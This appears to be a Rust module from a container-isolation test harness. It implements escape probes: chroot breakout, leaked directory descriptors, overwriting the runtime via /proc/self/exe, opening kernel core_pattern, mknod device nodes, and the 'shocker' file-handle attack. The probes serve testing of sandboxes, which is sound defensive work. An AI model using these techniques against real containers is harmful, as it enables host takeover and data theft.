//! What concerns files of the host: by their names, by what leads to them, by the disk that they are on.

use std::fs::{self, File, OpenOptions};
use std::io::Read;
use std::os::fd::BorrowedFd;
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};

use nix::errno::Errno;
use nix::fcntl::OFlag;
use nix::mount::{MsFlags, mount, umount};
use nix::sys::stat::{Mode, SFlag, makedev, mknod};
use nix::sys::statvfs::{FsFlags, fstatvfs};
use nix::unistd::{chdir, chroot, fchdir};
use rustix::fs::{FileType, SealFlags, fcntl_get_seals};

use crate::host::SECRET;
use crate::{Facts, Lost, Outcome, system};

/// A new directory of our own: in the working directory, which the test's host throws away.
pub(crate) fn scratch(name: &str) -> Result<PathBuf, Lost> {
    let place = std::env::current_dir()?.join(format!("attack-{name}-{}", std::process::id()));
    fs::create_dir(&place)?;
    Ok(place)
}

fn is_secret(mut file: impl Read) -> Outcome {
    let mut text = String::new();
    file.read_to_string(&mut text)?;
    if text == SECRET { Ok("read".into()) } else { Err(Lost("another file".into())) }
}

pub(crate) fn read_by_path(facts: &Facts) -> Outcome {
    is_secret(File::open(facts.get("file")?)?)
}

/// A root is where `..` ends. Whoever is outside of it never comes to its end.
pub(crate) fn leave_by_chroot(facts: &Facts) -> Outcome {
    let place = scratch("root")?;
    let entered = chroot(&place);
    // Not into it: so the working directory is outside.
    let left = entered.map_err(Lost::from).and_then(|()| {
        (0..64).try_for_each(|_| chdir(".."))?;
        chroot(".")?;
        Ok(())
    });
    let outcome = left.and_then(|()| read_by_path(facts));
    let _ = fs::remove_dir(&place);
    outcome
}

/// A descriptor of a directory, that whoever started us forgot to close.
pub(crate) fn leave_by_a_descriptor(facts: &Facts) -> Outcome {
    let numbers: Vec<i32> = fs::read_dir("/proc/self/fd")?
        .flatten()
        .filter_map(|entry| entry.file_name().to_str()?.parse().ok())
        .filter(|number| *number > 2)
        .collect();
    let name = Path::new(facts.get("file")?).file_name().map(PathBuf::from).unwrap_or_default();
    let mut outcome = Err(Lost("no descriptor".into()));
    for number in numbers {
        let Some(directory) = system::inherited(number) else { continue };
        if fchdir(directory).is_ok() {
            outcome = outcome.or_else(|_| is_secret(File::open(&name)?));
        }
    }
    outcome
}

/// Where its file has a name. Where it has none, see [`reopen_what_executed_us`].
pub(crate) fn replace_the_runtime(facts: &Facts) -> Outcome {
    let runtime = Path::new(facts.get("runtime")?);
    if !runtime.is_file() {
        return Err(Lost("not found".into()));
    }
    let other = runtime.with_extension("ours");
    fs::write(&other, "ours")?;
    fs::rename(&other, runtime)?;
    Ok("replaced".into())
}

/// The container's root has a loader of the attacker's, and its program leads to `/proc/self/exe`, so that the runtime
/// executes itself once more, by that loader. It opens the file that it loads, and executes us with it.
pub(crate) fn reopen_what_executed_us() -> Outcome {
    for number in 3..16 {
        // Directories are another attack.
        let Some(file) = system::inherited(number).filter(|file| is_file(*file)) else { continue };
        if fstatvfs(file)?.flags().contains(FsFlags::ST_RDONLY) {
            return Err(Lost("a read-only view of it".into()));
        }
        return match OpenOptions::new().write(true).open(format!("/proc/self/fd/{number}")) {
            Ok(open) if fcntl_get_seals(&open).is_ok_and(|seals| seals.contains(SealFlags::WRITE)) => {
                Err(Lost("a sealed copy of it".into()))
            }
            Ok(_) => Ok("open for writing".into()),
            // Somebody still executes it, and will end.
            Err(error) if error.raw_os_error() == Some(Errno::ETXTBSY as i32) => Ok("writable soon".into()),
            Err(error) => Err(error.into()),
        };
    }
    Err(Lost("no file".into()))
}

fn is_file(descriptor: BorrowedFd) -> bool {
    rustix::fs::fstat(descriptor).is_ok_and(|stat| FileType::from_raw_mode(stat.st_mode).is_file())
}

/// The program that the kernel starts, on the host and as its root, when a process crashes. It is not written.
pub(crate) fn open_core_pattern(_: &Facts) -> Outcome {
    OpenOptions::new().write(true).open("/proc/sys/kernel/core_pattern")?;
    Ok("open".into())
}

/// The same in a procfs of our own, which nothing has been masked in.
pub(crate) fn open_core_pattern_in_a_new_proc(_: &Facts) -> Outcome {
    let place = scratch("proc")?;
    let made = mount(Some("proc"), &place, Some("proc"), MsFlags::empty(), None::<&str>).map_err(Lost::from);
    let outcome = made.and_then(|()| {
        let opened = OpenOptions::new().write(true).open(place.join("sys/kernel/core_pattern"));
        // It is busy while the file is open.
        let opened = opened.map(drop);
        umount(&place)?;
        opened?;
        Ok("open".into())
    });
    fs::remove_dir(&place)?;
    outcome
}

/// A node for a device is a number, and the driver does not ask where it lies: `b:254:0`.
pub(crate) fn open_a_device(facts: &Facts) -> Outcome {
    let wrong = || Lost("no number".into());
    let [kind, major, minor] = facts.get("device")?.split(':').collect::<Vec<_>>()[..] else { return Err(wrong()) };
    let kind = if kind == "b" { SFlag::S_IFBLK } else { SFlag::S_IFCHR };
    let number = |text: &str| text.parse::<u64>().map_err(|_| wrong());
    let number = makedev(number(major)?, number(minor)?);
    let place = scratch("device")?;
    let node = place.join("node");
    let outcome = mknod(&node, kind, Mode::S_IRUSR, number).map_err(Lost::from).and_then(|()| {
        File::open(&node)?;
        Ok("open".into())
    });
    fs::remove_dir_all(&place)?;
    outcome
}

/// A file by its number, whatever directory it is in: "shocker". A real attack guesses the number of `/`, which is 2. Any
/// directory of the same file system will do to name it.
pub(crate) fn open_by_handle(facts: &Facts) -> Outcome {
    let handle = facts.get("handle")?;
    let open = |directory: &str| -> Outcome {
        let directory = OpenOptions::new().read(true).custom_flags(OFlag::O_DIRECTORY.bits()).open(directory)?;
        is_secret(File::from(system::open_handle(directory, handle)?))
    };
    open("/").or_else(|_| open("."))
}
